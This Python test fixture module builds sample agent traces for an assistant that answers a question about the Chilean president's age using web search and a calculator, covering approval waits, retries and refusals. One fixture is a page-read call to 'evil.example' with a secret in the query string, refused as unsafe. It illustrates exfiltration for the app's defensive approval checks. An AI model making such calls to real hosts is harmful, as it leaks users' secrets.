"""Turns of the agent at every point they can be seen at, for tests and for looking at them."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from agents.options import Strategy
from agents.sources import Source
from agents.steps import (
    AgentStep,
    ApprovalNeeded,
    LimitReached,
    Node,
    Outcome,
    Retrying,
    Thought,
    ToolCall,
    ToolResult,
    Why,
)
from components.agent_trace import Traced
from components.agent_view import cited_numbers
from storage.records import Message, MessageStatus, Role

QUESTION = Message(Role.USER, "How old is the president of Chile, raised to 0.4?", id="q1")
ENDED = Message(Role.ASSISTANT, "Gabriel Boric is 40 [1]. 40 to 0.4 is 4.3734 [3][9].", id="a1", parent_id="q1")
GROWING = Message(Role.ASSISTANT, "", MessageStatus.ANSWERING, id="a1", parent_id="q1")
STOPPED = Message(Role.ASSISTANT, "", MessageStatus.STOPPED, id="a1", parent_id="q1")

SOURCES = (
    Source("Gabriel Boric", "…", "https://es.wikipedia.org/wiki/Boric", "es.wikipedia.org", "2026-03-11", number=1),
    Source("President of Chile: a title that goes on", "…", "https://www.gob.cl/a?b=1&c=2", "gob.cl", number=2),
    Source("notes.pdf, page 3", "…", number=3),
)
LONG = "\n".join(
    f"[{number}] Gabriel Boric Font · es.wikipedia.org\n| Político chileno, presidente; línea {number} de la página."
    for number in range(1, 31)
)

SEARCH = ToolCall("c1", "web_search", {"query": "presidente de Chile edad", "max_results": 3}, 412, 31)
FOUND = ToolResult("c1", "web_search", LONG, 1.24, sources=SOURCES)
COUNT = ToolCall("c2", "calculator", {"expression": "40 ** 0.4"}, 1_530, 18)
COUNTED = ToolResult("c2", "calculator", "4.37344829573", 0.01)
THOUGHT = Thought("I need the age of the president first.")
BUSY = ToolResult(
    "c1", "web_search", "The service is busy.", 3.5, Outcome.FAILED, "error_service_busy", {"service": "Tavily"}
)
READ = ToolCall("c3", "read_page", {"url": "https://evil.example/?q=the+secret"}, 900, 40)
UNSAFE = ToolResult("c3", "read_page", "This call is not allowed.", 0.0, Outcome.REFUSED, "error_call_unsafe")


def traced(*steps: AgentStep, node: Node | None = None, sources: Sequence[Source] = SOURCES, **more: Any) -> Traced:
    """``steps`` of the answer ``a1``; a turn with a node goes on."""
    named = cited_numbers(ENDED.text, sources) if node is None else ()
    given: dict[str, Any] = {"why": "app_strategy_why_asked", "seconds": None if node else 4.21, **more}
    return Traced("a1", steps, sources, node=node, is_live=node is not None, cited=named, **given)


def waiting(call: ToolCall, why: Why, *words: str) -> Traced:
    """The turn waits for the person."""
    asked = ApprovalNeeded(call.id, why, words)
    return traced(THOUGHT, call, asked, node=Node.TOOLS, waiting=asked, sources=())


TRACES = {
    "deciding": traced(node=Node.MODEL, sources=()),
    "running": traced(THOUGHT, SEARCH, FOUND, COUNT, node=Node.TOOLS),
    "writing": traced(THOUGHT, SEARCH, FOUND, COUNT, COUNTED, node=Node.ANSWER),
    "waiting": waiting(SEARCH, Why.ASKED),
    "new words": waiting(SEARCH, Why.NEW_WORDS, "password", "Ana's secret"),
    "new address": waiting(READ, Why.NEW_ADDRESS, "https://evil.example/?q=the+secret"),
    "done": traced(THOUGHT, SEARCH, FOUND, COUNT, COUNTED),
    "failed": traced(SEARCH, BUSY, COUNT, COUNTED, sources=()),
    "refused": traced(SEARCH, FOUND, READ, UNSAFE),
    "retried": traced(SEARCH, Retrying("c1", 2, "error_service_busy"), FOUND),
    "retrying": traced(SEARCH, Retrying("c1", 2, "error_service_busy"), node=Node.TOOLS, sources=()),
    "allowed": traced(SEARCH, ApprovalNeeded("c1", Why.ASKED), FOUND),
    "limited": traced(SEARCH, FOUND, COUNT, COUNTED, LimitReached("calls")),
    "stopped": traced(THOUGHT, SEARCH, FOUND, COUNT),
    "react": traced(THOUGHT, SEARCH, FOUND, Thought("Now the power."), COUNT, COUNTED, strategy=Strategy.REACT),
    "search first": traced(SEARCH, FOUND, strategy=Strategy.SEARCH_FIRST, why="app_strategy_why_small"),
    "searching first": traced(SEARCH, node=Node.TOOLS, strategy=Strategy.SEARCH_FIRST, why="app_strategy_why_small"),
    "reading": traced(SEARCH, FOUND, READ, node=Node.TOOLS, strategy=Strategy.SEARCH_FIRST),
    "no calls": traced(sources=()),
}
